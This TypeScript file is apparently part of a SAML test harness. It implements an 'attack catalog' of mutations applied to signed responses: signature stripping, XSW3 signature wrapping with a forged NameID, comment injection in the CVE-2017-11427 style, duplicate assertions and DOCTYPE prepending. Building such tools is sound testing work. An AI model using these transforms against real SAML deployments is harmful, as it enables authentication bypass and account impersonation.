import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { NS } from './saml-xml.js';

/**
 * A change made to a response after it was signed, for the attack catalog (saml-security.md §5). Elements
 * are named by local name and found in document order (`index`, default 0). JSON-serializable, so the
 * control API takes them too; library callers may also pass a function over the parsed document.
 */
export type ResponseMutation =
  /** remove every ds:Signature (signature stripping, §5.2) */
  | { type: 'strip-signatures' }
  /** set an attribute of an element (e.g. Response Destination after signing) */
  | { type: 'set-attribute'; element: string; index?: number; attribute: string; value: string }
  /** remove an attribute (e.g. the unsigned Response@InResponseTo, §5.5) */
  | { type: 'remove-attribute'; element: string; index?: number; attribute: string }
  /** replace an element's text (e.g. NameID swapped inside a signed assertion: digest mismatch) */
  | { type: 'set-text'; element: string; index?: number; value: string }
  /** split an element's text with a comment at `at` (CVE-2017-11427 family, §5.3): "adm<!---->in" */
  | { type: 'insert-comment'; element: string; index?: number; at: number; comment?: string }
  /** remove an element */
  | { type: 'remove-element'; element: string; index?: number }
  /**
   * XSW3 (§5.1): an unsigned, evilized copy of the Assertion (new ID, NameID = `nameId`) inserted before the
   * signed one
   */
  | { type: 'xsw3'; nameId: string }
  /** a clone of the (signed) Assertion appended to the Response: two assertions (§5.5 "multiple assertions") */
  | { type: 'duplicate-assertion' }
  /** prepend `<!DOCTYPE …>` (no entities; §5.6) */
  | { type: 'doctype'; doctype?: string }
  /** any change to the parsed document (library only) */
  | ((doc: Document) => void);

function nth(doc: Document, localName: string, index = 0): Element {
  const all = doc.getElementsByTagNameNS('*', localName);
  const el = all.item(index);
  if (!el) throw new Error(`mutation: no <${localName}> #${index} in the response`);
  return el;
}

function textOf(el: Element): string {
  return el.textContent ?? '';
}

/** Applies the mutations in order to a serialized response and serializes it again. */
export function applyMutations(xml: string, mutations: readonly ResponseMutation[]): string {
  let doctype = '';
  const doc = new DOMParser().parseFromString(xml, 'application/xml') as unknown as Document;
  for (const m of mutations) {
    if (typeof m === 'function') {
      m(doc);
      continue;
    }
    switch (m.type) {
      case 'strip-signatures': {
        const sigs = doc.getElementsByTagNameNS(NS.dsig, 'Signature');
        for (let i = sigs.length - 1; i >= 0; i--) {
          const sig = sigs.item(i);
          sig?.parentNode?.removeChild(sig);
        }
        break;
      }
      case 'set-attribute':
        nth(doc, m.element, m.index).setAttribute(m.attribute, m.value);
        break;
      case 'remove-attribute':
        nth(doc, m.element, m.index).removeAttribute(m.attribute);
        break;
      case 'set-text': {
        const el = nth(doc, m.element, m.index);
        while (el.firstChild) el.removeChild(el.firstChild);
        el.appendChild(doc.createTextNode(m.value));
        break;
      }
      case 'insert-comment': {
        const el = nth(doc, m.element, m.index);
        const text = textOf(el);
        while (el.firstChild) el.removeChild(el.firstChild);
        el.appendChild(doc.createTextNode(text.slice(0, m.at)));
        el.appendChild(doc.createComment(m.comment ?? ''));
        el.appendChild(doc.createTextNode(text.slice(m.at)));
        break;
      }
      case 'remove-element': {
        const el = nth(doc, m.element, m.index);
        el.parentNode?.removeChild(el);
        break;
      }
      case 'xsw3': {
        const signed = nth(doc, 'Assertion');
        const evil = signed.cloneNode(true) as Element;
        evil.setAttribute('ID', `_evil_${signed.getAttribute('ID') ?? 'assertion'}`);
        const sig = Array.from(evil.childNodes).find((n) => (n as Element).localName === 'Signature' && (n as Element).namespaceURI === NS.dsig);
        if (sig) evil.removeChild(sig);
        const nameId = evil.getElementsByTagNameNS(NS.assertion, 'NameID').item(0);
        if (nameId) {
          while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
          nameId.appendChild(doc.createTextNode(m.nameId));
        }
        signed.parentNode?.insertBefore(evil, signed);
        break;
      }
      case 'duplicate-assertion': {
        const signed = nth(doc, 'Assertion');
        signed.parentNode?.appendChild(signed.cloneNode(true));
        break;
      }
      case 'doctype':
        doctype = m.doctype ?? '<!DOCTYPE samlp:Response>';
        break;
    }
  }
  const out = new XMLSerializer().serializeToString(doc as unknown as Node);
  return doctype === '' ? out : `${doctype}${out}`;
}
